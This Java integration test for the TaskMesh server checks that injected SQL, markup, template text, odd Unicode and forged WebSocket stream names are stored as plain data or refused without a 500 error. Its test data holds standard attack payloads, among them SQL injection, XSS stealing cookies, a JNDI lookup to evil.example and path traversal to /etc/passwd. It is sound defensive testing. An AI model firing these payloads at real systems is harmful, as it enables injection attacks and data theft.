package dev.taskmesh.server;

import static dev.taskmesh.server.support.Api.expect;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.taskmesh.server.support.Api;
import dev.taskmesh.server.support.Api.User;
import dev.taskmesh.server.support.Board;
import dev.taskmesh.server.support.IntegrationTest;
import dev.taskmesh.server.support.StreamClient;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;

/**
 * Input written to hurt: text that looks like SQL, markup or templates is data, stored and returned exactly as sent
 * in every field; Unicode at its edges is kept or refused whole, never mangled; bodies too large or too deep are
 * refused before they cost the server; forged positions and stream names on the WebSocket get an error frame and the
 * connection goes on. Each gets a clear answer, never a 500, and nothing stored changes.
 */
class HostileInputIT extends IntegrationTest {

    /** What an attacker hopes some layer will execute, and edges of Unicode a careless layer would mangle. */
    private static final List<String> HOSTILE = List.of(
            "'; DROP TABLE task_view; --",
            "Robert'); DELETE FROM domain_event_entry WHERE ('1'='1",
            "<script>alert(document.cookie)</script>",
            "<img src=x onerror=alert(1)>",
            "{{7*7}} ${7*7} #{7*7} ${jndi:ldap://evil.example/a}",
            "%s%s%s%n %x",
            "\\\\server\\share ../../etc/passwd",
            "😀 family 👨‍👩‍👧 flags 🇫🇷 and 𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
            "e\u0301 precomposed é and decomposed e\u0301",
            "right-to-left \u202Eevil\u202C override and zero\u200Bwidth",
            "tabs\tand\r\nnewlines");

    @Autowired
    JdbcClient jdbc;

    private User owner;
    private String workspace;
    private String project;

    @BeforeEach
    void aWorkspace() {
        owner = api.registerAndLogin(Board.unique("owner"));
        workspace = api.createWorkspace(owner, "Hostile");
        project = api.createProject(owner, workspace, "Hostile");
    }

    @Test
    void textThatLooksLikeCodeIsDataStoredAndReturnedExactlyInEveryField() {
        long events = events();
        for (String text : HOSTILE) {
            String title = text.strip();
            Api.Response created = expect(
                    api.post(
                            projectPath() + "/tasks", owner.accessToken(), Map.of("title", title, "description", text)),
                    201);
            String task = created.text("id");
            expect(api.patch(taskPath(task), owner.accessToken(), Map.of("labels", List.of(label(text)))), 200);
            Api.Response commented =
                    expect(api.post(taskPath(task) + "/comments", owner.accessToken(), Map.of("body", text)), 201);

            String atComment =
                    "?minPosition=" + commented.body().path("globalPosition").asLong();
            // 503 projection-lagging asks to come back: the test profile answers it after a second of waiting
            JsonNode read = await().until(
                            () -> api.get(taskPath(task) + atComment, owner.accessToken()),
                            answer -> answer.status() == 200)
                    .body();
            assertThat(read.path("title").asString()).as(text).isEqualTo(title);
            assertThat(read.path("description").asString()).as(text).isEqualTo(text);
            assertThat(read.path("labels").get(0).asString()).as(text).isEqualTo(label(text));
            assertThat(await().until(
                                    () -> api.get(taskPath(task) + "/comments" + atComment, owner.accessToken()),
                                    answer -> answer.status() == 200)
                            .body()
                            .path("items")
                            .get(0)
                            .path("body")
                            .asString())
                    .as(text)
                    .isEqualTo(text);
        }
        // every write became events, and none of the text touched anything else
        assertThat(events()).isEqualTo(events + 3L * HOSTILE.size());
        assertThat(jdbc.sql("SELECT count(*) FROM task_view WHERE workspace_id = :ws::uuid")
                        .param("ws", workspace)
                        .query(Long.class)
                        .single())
                .isEqualTo(HOSTILE.size());
    }

    @Test
    void namesTakeHostileTextToo() {
        for (String text : HOSTILE) {
            String name = text.strip();
            String created = api.createWorkspace(owner, name);
            assertThat(expect(api.get("/api/workspaces/" + created, owner.accessToken()), 200)
                            .text("name"))
                    .as(text)
                    .isEqualTo(name);
        }
    }

    /** PostgreSQL text cannot hold NUL, and a lone surrogate is no character at all: refused, never a 500. */
    @ParameterizedTest
    @ValueSource(strings = {"nul \\u0000 inside", "lone \\ud800 surrogate", "reversed \\udc00\\ud800 pair"})
    void textThatIsNoTextIsRefusedAndNothingIsStored(String escaped) {
        long events = events();
        String body = "{\"title\":\"" + escaped + "\"}";

        Api.Response answer = api.postRaw(projectPath() + "/tasks", owner.accessToken(), body);

        assertThat(answer.status()).isEqualTo(400);
        assertThat(answer.problemType()).isEqualTo("validation-failed");
        assertThat(answer.body().path("errors").get(0).path("pointer").asString())
                .isEqualTo("/title");
        assertThat(events()).isEqualTo(events);
        // the projections were never handed it: they still serve what comes next
        Api.Response next = expect(api.createTask(owner, workspace, project, "Next"), 201);
        expect(api.readTask(owner, workspace, next.text("id"), next), 200);
    }

    @Test
    void bodiesTooLargeOrTooDeepAreRefusedBeforeTheyCost() {
        long events = events();
        String tooLarge = "{\"title\":\"big\",\"description\":\"" + "x".repeat(300 * 1024) + "\"}";
        String tooDeep = "{\"title\":\"deep\",\"labels\":" + "[".repeat(5_000) + "]".repeat(5_000) + "}";

        Api.Response large = api.postRaw(projectPath() + "/tasks", owner.accessToken(), tooLarge);
        Api.Response deep = api.postRaw(projectPath() + "/tasks", owner.accessToken(), tooDeep);

        assertThat(large.status()).isEqualTo(413);
        assertThat(large.problemType()).isEqualTo("payload-too-large");
        assertThat(deep.status()).isEqualTo(400);
        assertThat(deep.problemType()).isEqualTo("malformed-request");
        assertThat(events()).isEqualTo(events);
    }

    @Test
    void forgedPositionsAndStreamNamesGetAnErrorFrameAndTheConnectionGoesOn() {
        User stranger = api.registerAndLogin(Board.unique("stranger"));
        try (StreamClient client = StreamClient.connect(api.base(), stranger.accessToken())) {
            String own = "user:" + stranger.id();
            for (Object since : List.of(-1, "12", 1.5, Long.MAX_VALUE, "'; DROP TABLE stream_frame; --")) {
                JsonNode refused =
                        client.reply(client.send(Map.of("type", "subscribe", "stream", own, "since", since)), "error");
                assertThat(refused.path("code").asString())
                        .as(String.valueOf(since))
                        .isEqualTo("invalid-since");
            }
            for (String stream : List.of(
                    "workspace:" + workspace,
                    "workspace:../../etc/passwd",
                    "task:'; DROP TABLE stream_frame; --",
                    "user:" + owner.id(),
                    "workspace:" + workspace.toUpperCase(),
                    "WORKSPACE:" + workspace,
                    "workspace:" + workspace + "\u0000")) {
                JsonNode refused = client.reply(client.send(Map.of("type", "subscribe", "stream", stream)), "error");
                assertThat(refused.path("code").asString()).as(stream).isIn("forbidden", "invalid-stream");
            }
            // still served
            assertThat(client.subscribe(own, null)).isGreaterThanOrEqualTo(0);
        }
        assertThat(jdbc.sql("SELECT count(*) FROM stream_frame")
                        .query(Long.class)
                        .single())
                .isPositive();
    }

    private long events() {
        return jdbc.sql("SELECT count(*) FROM domain_event_entry")
                .query(Long.class)
                .single();
    }

    /** A label is 1–50 characters: the text's first 50 code points, stripped. */
    private static String label(String text) {
        String stripped = text.strip();
        int end = stripped.offsetByCodePoints(0, Math.min(50, stripped.codePointCount(0, stripped.length())));
        return stripped.substring(0, end).strip();
    }

    private String projectPath() {
        return "/api/workspaces/" + workspace + "/projects/" + project;
    }

    private String taskPath(String task) {
        return "/api/workspaces/" + workspace + "/tasks/" + task;
    }
}
